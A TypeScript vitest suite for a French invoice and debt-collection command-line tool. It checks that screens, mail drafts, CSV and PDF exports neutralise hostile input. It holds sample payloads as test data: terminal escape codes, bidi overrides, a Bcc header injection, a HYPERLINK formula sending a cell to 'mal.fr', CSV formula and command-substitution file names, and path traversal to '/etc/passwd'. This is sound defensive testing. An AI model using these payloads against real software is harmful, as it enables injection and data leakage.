// Text from outside is text, everywhere: screens, mail headers, spreadsheets, file names, PDFs. Raw outputs are read.
import { existsSync, readdirSync, readFileSync } from "node:fs";
import { dirname, join } from "node:path";
import { describe, expect, test } from "vitest";
import { HAS_POPPLER } from "../documents/pdf-probe.ts";
import { readDraft } from "../scenarios/mail-probe.ts";
import { filesUnder, newStory, pdfText, type Story } from "../scenarios/story.ts";

const TODAY = "2026-11-20";
const ESC = "\u001b";

/** What each field of a hostile file holds: colours, a title, a bell, right-to-left text, headers, a formula. */
const HOSTILE = {
  ansi: `${ESC}[31mROUGE${ESC}[0m${ESC}]0;titre\u0007${ESC}[2J${ESC}[1A\u009b31m`,
  bidi: "facture \u202efdp.exe\u202c\u2066caché\u2069\u200b",
  header: "ACME\r\nBcc: espion@mal.fr\r\nSubject: autre\r\n\r\nCorps faux",
  formula: '=HYPERLINK("http://mal.fr?"&A1;"ici")',
  path: "../../../../tmp/evasion",
} as const;

/**
 * What a text holds that would drive a terminal or turn its line around: controls but the line feed, and
 * direction overrides, each by its code.
 */
function dangers(text: string): readonly string[] {
  const found = new Set<string>();
  for (const character of text) {
    const code = character.codePointAt(0) ?? 0;
    const control = (code < 0x20 && code !== 0x0a) || (code >= 0x7f && code <= 0x9f);
    const direction =
      code === 0x200e ||
      code === 0x200f ||
      (code >= 0x202a && code <= 0x202e) ||
      (code >= 0x2066 && code <= 0x2069);
    if (control || direction) found.add(`U+${code.toString(16).padStart(4, "0")}`);
  }
  return [...found];
}

/** One CSV cell, quoted. */
function cell(text: string): string {
  return `"${text.replaceAll('"', '""')}"`;
}

/** Each hostile text in each free field of an import. */
async function hostileImport(): Promise<Story> {
  const story = await newStory();
  const rows = Object.values(HOSTILE).map((text, index) =>
    [
      `F-${index}`,
      `${text} ${index}`,
      "2026-08-01",
      "2026-09-01",
      "1 200,00",
      text,
      text,
      text,
      text,
      "69003",
      `Lyon ${text}`,
      `c${index}@acme.fr`,
    ]
      .map(cell)
      .join(";"),
  );
  const head = "Numéro;Client;Date;Échéance;Montant TTC;Objet;Devis;Contact;Adresse;Code postal;Ville;E-mail";
  const csv = story.writes("hostile.csv", [head, ...rows].join("\r\n"));
  const { code, stderr, raw } = await story.tries(TODAY, `facture importer ${csv} --type societe`);
  expect(dangers(stderr + raw)).toEqual([]);
  if (code !== 0) throw new Error(stderr);
  return story;
}

async function refs(story: Story): Promise<readonly string[]> {
  const { clients } = await story.tells<{ clients: { reference: string }[] }>(TODAY, "client lister");
  return clients.map((one) => one.reference);
}

describe("les écrans", () => {
  test("aucun écran, aucune erreur, aucune réponse JSON ne laisse passer de quoi conduire un terminal", async () => {
    const story = await hostileImport();
    const names = await refs(story);
    expect(names).toHaveLength(5);
    for (const ref of names) expect(ref).toMatch(/^[a-z0-9][a-z0-9-]*$/u);
    const lines = [
      "status --tout",
      "status --json",
      "relancer --apercu",
      "relancer",
      "client lister",
      "facture lister --tout",
      "journal lister",
      "journal lister --json",
      "piece lister",
      ...names.flatMap((ref) => [
        `client voir ${ref}`,
        `decompte ${ref}`,
        `dossier verifier ${ref}`,
        `mise-en-demeure ${ref} --oui`,
      ]),
      ...names.map((_, index) => `facture voir F-${index}`),
    ];
    for (const line of lines) {
      const { raw, stderr, code } = await story.tries(TODAY, line);
      expect(code, `${line}: ${stderr}`).not.toBe(1);
      expect(dangers(raw), line).toEqual([]);
      expect(dangers(stderr), line).toEqual([]);
    }
  });

  test("une valeur tapée au clavier non plus: elle est citée dans l'erreur, désarmée", async () => {
    const story = await newStory();
    for (const line of [
      `client voir '${HOSTILE.ansi}'`,
      `facture voir '${HOSTILE.bidi}'`,
      `paiement ajouter F-1 '${HOSTILE.ansi}'`,
      `'${HOSTILE.ansi}'`,
      `status '--${HOSTILE.ansi}'`,
      `facture importer '${HOSTILE.ansi}'`,
      `client ajouter ACME --email '${HOSTILE.ansi}'`,
      `client ajouter ACME --siren '${HOSTILE.bidi}'`,
    ]) {
      const { code, stderr, raw } = await story.tries(TODAY, line);
      expect([2, 4], line).toContain(code);
      expect(dangers(stderr + raw), line).toEqual([]);
    }
  });

  test("un numéro de recommandé, une note, un motif: gardés sur une ligne, sans commande de terminal", async () => {
    const story = await newStory();
    await story.does(
      "2026-08-01",
      'client ajouter ACME --email c@acme.fr --adresse "1 rue du Port" --code-postal 69003 --ville Lyon',
    );
    await story.does(
      "2026-08-01",
      "facture ajouter F-1 --client acme --date 2026-08-01 --echeance 2026-09-01 --montant 1200",
    );
    await story.does("2026-09-04", `etape noter acme --note '${HOSTILE.ansi} ${HOSTILE.bidi}'`);
    await story.does("2026-10-02", "mise-en-demeure acme");
    await story.does("2026-10-05", `lrar depot acme --le 2026-10-05 --numero '${HOSTILE.ansi}1A'`);
    await story.does("2026-10-06", `client pause acme --motif '${HOSTILE.header} ${HOSTILE.ansi}'`);
    for (const line of [
      "etape lister acme",
      "lrar lister acme",
      "lrar lister acme --json",
      "status --tout",
      "client voir acme",
      "facture voir F-1",
      "journal lister",
      "journal lister --json",
      "relancer --apercu",
    ]) {
      const { raw, stderr } = await story.tries("2026-10-06", line);
      expect(dangers(raw + stderr), line).toEqual([]);
      // Nor as an escape of JSON, which the reader of the answer would bring back to life.
      expect(raw, line).not.toMatch(/\\u00(?:0[0-9a-f]|1[0-9a-f]|[89][0-9a-f])|\\u202e/u);
    }
  });
});

describe("les courriels", () => {
  test("aucun en-tête ne s'ajoute: un destinataire, un objet, et le texte hostile reste du texte", async () => {
    const story = await hostileImport();
    await story.does(TODAY, `profil modifier --nom '${HOSTILE.header}'`);
    const { brouillons } = await story.tells<{ brouillons: { fichier: string; client: string }[] }>(
      TODAY,
      "relancer",
    );
    expect(brouillons).toHaveLength(5);
    for (const { fichier } of brouillons) {
      const { mail, raw } = await readDraft(fichier);
      const heads = raw.slice(0, raw.indexOf("\r\n\r\n"));
      expect(mail.to).toHaveLength(1);
      expect(mail.to?.[0]?.address).toMatch(/^c\d@acme\.fr$/u);
      expect([mail.cc ?? [], mail.bcc ?? []]).toEqual([[], []]);
      expect(heads).not.toMatch(/^bcc:/imu);
      expect(heads.match(/^subject:/gimu)).toHaveLength(1);
      expect(heads.match(/^from:/gimu)).toHaveLength(1);
      expect(mail.subject ?? "").not.toMatch(/[\r\n]/u);
      expect(dangers(mail.text ?? "")).toEqual([]);
    }
  });
});

describe("les fichiers", () => {
  /** A client in its last state before court, with hostile names everywhere, and pieces with hostile titles and names. */
  async function readyForCourt(): Promise<{ story: Story; folder: string }> {
    const story = await newStory();
    await story.does(
      "2026-08-01",
      `client ajouter '${HOSTILE.formula}' --ref acme --siren 552100554 --email c@acme.fr --adresse '${HOSTILE.path}' --code-postal 69003 --ville Lyon --commune 69383`,
    );
    await story.does(
      "2026-08-01",
      `facture ajouter '=1+1' --client acme --date 2026-08-01 --echeance 2026-09-01 --montant 1200 --objet '@SUM(A1:A9)' --contrat '+cmd|calc'`,
    );
    const scan = story.writes("scan.txt", "preuve");
    await story.does(
      "2026-08-02",
      `piece ajouter '=1+1' ${scan} --nature facture --titre '../../../evasion'`,
    );
    await story.does(
      "2026-08-02",
      `piece ajouter '=1+1' ${story.writes("deux.txt", "deux")} --nature devis --titre '${HOSTILE.formula}'`,
    );
    await story.does(
      "2026-08-02",
      `piece ajouter acme '${story.writes("-rf ..;$(touch x) .txt", "trois")}' --nature livraison`,
    );
    await story.does(
      "2026-08-02",
      `piece ajouter acme ${story.writes("quatre.txt", "quatre")} --nature echange --titre '/etc/passwd\n.pdf'`,
    );
    await story.does(TODAY, "dossier verifier acme --malgre mise-en-demeure --motif '=1+1'");
    return { story, folder: story.beside("dossier") };
  }

  test("titres et noms de pièces ne sortent pas du dossier, ni de celui des données", async () => {
    const { story, folder } = await readyForCourt();
    const around = dirname(story.folder);
    const before = readdirSync(around).sort();
    await story.does(TODAY, `dossier exporter acme --sortie ${folder}`);
    expect(readdirSync(around).sort()).toEqual([...before, "dossier"].sort());
    expect(existsSync("/tmp/evasion")).toBe(false);
    for (const name of filesUnder(folder).keys()) expect(name).toMatch(/^[\w./-]+$/u);
    for (const name of filesUnder(folder).keys()) expect(name.split("/")).not.toContain("..");
    for (const name of readdirSync(join(story.folder, "pieces")))
      expect(name).toMatch(/^[0-9a-f]{64}\.[a-z0-9]+$/u);
    for (const name of readdirSync(join(story.folder, "documents")))
      expect(name).toMatch(/^[a-z0-9][a-z0-9.-]*$/u);
  });

  test("le tableau CSV du dossier n'exécute rien: aucune cellule ne commence par = + - @", async () => {
    const { story, folder } = await readyForCourt();
    await story.does(TODAY, `dossier exporter acme --sortie ${folder}`);
    const tables = [...filesUnder(folder)].filter(([name]) => name.endsWith(".csv"));
    expect(tables.length).toBeGreaterThan(0);
    for (const [name, bytes] of tables) {
      const text = bytes.toString("utf8").replace(/^\ufeff/u, "");
      expect(dangers(text.replaceAll("\r\n", "\n")), name).toEqual([]);
      for (const line of text.split(/\r?\n/u))
        for (const one of cellsOf(line)) {
          const isNumber = /^[-−]?[\d\s.,\u00a0\u202f]+$/u.test(one);
          if (!isNumber) expect(one, `${name}: ${line}`).not.toMatch(/^[=+\-@\t\r]/u);
        }
    }
    expect(readFileSync(join(folder, "creance.json"), "utf8")).toContain("HYPERLINK");
  });

  test.skipIf(!HAS_POPPLER)(
    "les PDF écrivent le texte hostile comme du texte, Markdown et Liquid compris",
    async () => {
      const story = await newStory();
      await story.does(
        "2026-08-01",
        'client ajouter "{{ creancier.iban }} **gras** [lien](http://mal.fr) <b>html</b>" --ref acme --adresse "[[signature]] rue" --code-postal 69003 --ville Lyon',
      );
      await story.does(
        "2026-08-01",
        "facture ajouter F-1 --client acme --date 2026-08-01 --echeance 2026-09-01 --montant 1200 --objet '{% render \"partiels/suite\" %} # titre'",
      );
      const { fichier } = await story.tells<{ fichier: string }>(TODAY, "mise-en-demeure acme --oui");
      const text = pdfText(fichier);
      expect(text.toLowerCase()).toContain("**gras** [lien](http://mal.fr) <b>html</b>");
      expect(text).toContain("{% render");
      expect(readFileSync(fichier).toString("latin1")).not.toContain("/URI (http://mal.fr");
    },
  );
});

/** The cells of one line of our own tables, quotes removed. */
function cellsOf(line: string): readonly string[] {
  return [...line.matchAll(/(?:^|;)(?:"((?:[^"]|"")*)"|([^;]*))/gu)].map((found) =>
    (found[1] ?? found[2] ?? "").replaceAll('""', '"'),
  );
}
